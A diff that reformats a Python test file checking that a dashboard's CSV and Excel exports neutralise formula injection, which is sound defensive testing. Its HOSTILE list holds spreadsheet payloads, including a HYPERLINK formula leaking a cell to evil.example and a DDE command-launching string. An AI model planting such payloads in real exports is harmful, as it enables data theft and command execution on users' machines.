@@ -16,18 +16,37 @@ from hypothesis import strategies as st
 
 from disclosure.dashboard import exports
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-185", "+86 10 1234", "@某某发布", "＝全角等号"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "-185",
+    "+86 10 1234",
+    "@某某发布",
+    "＝全角等号",
+]
 SAFE = ["平潭综合实验区", "某某发布", "1+1=2", " =leading space", ""]
 
 
 def frame(texts: list[str]) -> pd.DataFrame:
     n = len(texts)
-    return pd.DataFrame({
-        "agency": texts, "source_file": texts[::-1], "account": texts, "raw": texts, "message": texts,
-        "year": [2024] * n, "value": [-185.0 if i % 2 else 3.5 for i in range(n)],
-        "requests__new__total": pd.array([None if i % 3 == 0 else -i for i in range(n)], dtype="Int64"),
-    })
+    return pd.DataFrame(
+        {
+            "agency": texts,
+            "source_file": texts[::-1],
+            "account": texts,
+            "raw": texts,
+            "message": texts,
+            "year": [2024] * n,
+            "value": [-185.0 if i % 2 else 3.5 for i in range(n)],
+            "requests__new__total": pd.array([None if i % 3 == 0 else -i for i in range(n)], dtype="Int64"),
+        }
+    )
 
 
 def _formula_like(text: str) -> bool:
@@ -41,8 +60,11 @@ def csv_cells(data: bytes) -> list[list[str]]:
 def check_csv(df: pd.DataFrame) -> None:
     rows = csv_cells(exports.to_csv(df))
     header, body = rows[0], rows[1:]
-    text_cols = [i for i, h in enumerate(header) if h in {exports.column_label(c) for c in
-                                                          ("agency", "source_file", "account", "raw", "message")}]
+    text_cols = [
+        i
+        for i, h in enumerate(header)
+        if h in {exports.column_label(c) for c in ("agency", "source_file", "account", "raw", "message")}
+    ]
     assert len(text_cols) == 5
     for row in body:
         for i in text_cols:
@@ -54,7 +76,7 @@ def check_csv(df: pd.DataFrame) -> None:
 
 
 def check_excel(df: pd.DataFrame) -> None:
-    book = openpyxl.load_workbook(io.BytesIO(exports.to_excel(df, "=HYPERLINK(\"http://x\")", "申请情况")))
+    book = openpyxl.load_workbook(io.BytesIO(exports.to_excel(df, '=HYPERLINK("http://x")', "申请情况")))
     for ws in book.worksheets:
         for row in ws.iter_rows():
             for cell in row:
@@ -90,8 +112,13 @@ def test_neutralise_leaves_non_text_alone() -> None:
 
 
 @settings(max_examples=60, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
-@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r'\"，,;|AB1平 \n")), max_size=12),
-                min_size=1, max_size=6))
+@given(
+    st.lists(
+        st.text(alphabet=st.sampled_from(list("=+-@\t\r'\"，,;|AB1平 \n")), max_size=12),
+        min_size=1,
+        max_size=6,
+    )
+)
 def test_any_text_is_neutralised(texts: list[str]) -> None:
     df = frame(texts)
     check_csv(df)
